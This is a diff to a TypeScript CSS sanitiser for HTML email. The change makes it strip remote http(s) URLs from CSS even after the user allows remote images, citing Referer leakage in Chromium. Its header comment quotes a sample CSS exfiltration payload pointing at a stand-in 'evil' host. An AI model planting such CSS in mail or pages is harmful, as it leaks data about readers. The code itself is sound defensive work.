@@ -3,16 +3,19 @@
  * fetch anything the user has not allowed (CSS exfiltration: `background:url(https://evil/?leak)`,
  * `@import`, remote fonts). It uses the browser's own CSS parser — the one that will interpret the
  * text later — instead of pattern matching: a constructed CSSStyleSheet (which ignores @import
- * rules), and an element's style declaration for attributes. Every declaration whose serialised
- * value loads a URL is kept only when each URL is a data: URL, or http(s) and the user allowed
- * remote images; other rules that carry a URL are dropped. The iframe's own CSP (img-src, and
- * default-src 'none' for fonts) blocks the same loads a second time.
+ * rules), and an element's style declaration for attributes. A declaration whose serialised value
+ * loads a URL is kept only when each URL is a data: image; other rules that carry a URL are
+ * dropped. Remote URLs in CSS stay out even after the user allows remote images (those are <img>
+ * and background attributes): Chromium sends the app's origin as Referer with images that a
+ * srcdoc frame's CSS loads, whatever the referrer policy says, and CSS is where exfiltration
+ * tricks live. The iframe's own CSP (img-src, and default-src 'none' for fonts) blocks the same
+ * loads a second time.
  */
 
 export interface CssVerdict {
   /** the scrubbed text */
   text: string;
-  /** a remote URL was removed (shown as "Remote images blocked") */
+  /** a remote (http/https) URL was removed */
   remote: boolean;
 }
 
@@ -42,8 +45,8 @@ export function cssUrls(value: string): string[] {
   return out;
 }
 
-/** What a declaration value may keep: "ok", "remote" (an http(s) URL), or "drop" (anything else). */
-function judge(value: string, allowRemote: boolean): "ok" | "remote" | "drop" {
+/** What becomes of a declaration value: "ok" (kept), "remote" (an http(s) URL), "drop" (another URL). */
+function judge(value: string): "ok" | "remote" | "drop" {
   const lower = value.toLowerCase();
   // image-set() and friends take bare strings as URLs; they are rare in mail, so they go
   for (const f of IMAGE_FUNCS) if (lower.includes(f)) return "drop";
@@ -52,7 +55,7 @@ function judge(value: string, allowRemote: boolean): "ok" | "remote" | "drop" {
     const l = u.toLowerCase();
     if (l.startsWith("data:image/")) continue;
     if (l.startsWith("https:") || l.startsWith("http:")) {
-      if (!allowRemote) verdict = "remote";
+      verdict = "remote";
       continue;
     }
     return "drop";
@@ -61,7 +64,7 @@ function judge(value: string, allowRemote: boolean): "ok" | "remote" | "drop" {
 }
 
 /** Scrubs one declaration block in place; answers whether a remote URL was removed. */
-function scrubDeclarations(style: CSSStyleDeclaration, allowRemote: boolean): boolean {
+function scrubDeclarations(style: CSSStyleDeclaration): boolean {
   let remote = false;
   const names: string[] = [];
   for (let i = 0; i < style.length; i++) names.push(style.item(i));
@@ -73,7 +76,7 @@ function scrubDeclarations(style: CSSStyleDeclaration, allowRemote: boolean): bo
       style.removeProperty(name);
       continue;
     }
-    const v = judge(value, allowRemote);
+    const v = judge(value);
     if (v === "ok") continue;
     if (v === "remote") remote = true;
     style.removeProperty(name);
@@ -82,10 +85,10 @@ function scrubDeclarations(style: CSSStyleDeclaration, allowRemote: boolean): bo
 }
 
 /** A style attribute's value, scrubbed. */
-export function scrubStyleAttribute(value: string, allowRemote: boolean): CssVerdict {
+export function scrubStyleAttribute(value: string): CssVerdict {
   const el = document.createElement("div");
   el.setAttribute("style", value);
-  const remote = scrubDeclarations(el.style, allowRemote);
+  const remote = scrubDeclarations(el.style);
   return { text: el.getAttribute("style") ?? "", remote };
 }
 
@@ -97,17 +100,13 @@ interface RuleLike {
 }
 
 /** Scrubs a rule list in place (nested rules: @media, @supports, nesting); answers remote. */
-function scrubRules(
-  list: CSSRuleList,
-  owner: { deleteRule(i: number): void },
-  allowRemote: boolean,
-): boolean {
+function scrubRules(list: CSSRuleList, owner: { deleteRule(i: number): void }): boolean {
   let remote = false;
   for (let i = list.length - 1; i >= 0; i--) {
     const rule = list[i] as unknown as RuleLike;
-    if (rule.style) remote = scrubDeclarations(rule.style, allowRemote) || remote;
+    if (rule.style) remote = scrubDeclarations(rule.style) || remote;
     if (rule.cssRules && rule.deleteRule) {
-      remote = scrubRules(rule.cssRules, rule as { deleteRule(i: number): void }, allowRemote) || remote;
+      remote = scrubRules(rule.cssRules, rule as { deleteRule(i: number): void }) || remote;
     }
     if (!rule.style && !rule.cssRules) {
       // a rule of another kind (@font-face is a style rule; @property, @counter-style …):
@@ -121,7 +120,7 @@ function scrubRules(
 }
 
 /** A <style> element's text, scrubbed (empty where the browser has no constructable style sheets). */
-export function scrubStyleSheet(text: string, allowRemote: boolean): CssVerdict {
+export function scrubStyleSheet(text: string): CssVerdict {
   if (typeof CSSStyleSheet !== "function" || !("replaceSync" in CSSStyleSheet.prototype)) {
     return { text: "", remote: false };
   }
@@ -131,7 +130,7 @@ export function scrubStyleSheet(text: string, allowRemote: boolean): CssVerdict 
   } catch {
     return { text: "", remote: false };
   }
-  const remote = scrubRules(sheet.cssRules, sheet, allowRemote);
+  const remote = scrubRules(sheet.cssRules, sheet);
   const parts: string[] = [];
   for (const r of sheet.cssRules) parts.push(r.cssText);
   return { text: parts.join("\n"), remote };
